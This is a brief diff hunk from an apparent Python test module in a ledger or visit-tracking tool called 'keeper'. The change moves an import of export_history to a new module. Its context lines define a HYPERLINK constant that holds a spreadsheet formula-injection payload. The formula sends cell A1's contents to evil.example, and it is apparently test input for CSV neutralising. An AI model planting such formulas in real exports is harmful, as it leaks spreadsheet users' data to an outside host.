@@ -20,7 +20,8 @@ from keeper.core.files import csv_text, neutralise
 from keeper.core.importing import import_ledger, write_rejects
 from keeper.core.ledger import NewVisit
 from keeper.errors import EnvironmentProblem, UserError
-from keeper.reports.export import export_history, export_month
+from keeper.core.exports import export_history
+from keeper.reports.export import export_month
 from keeper.store import connection
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
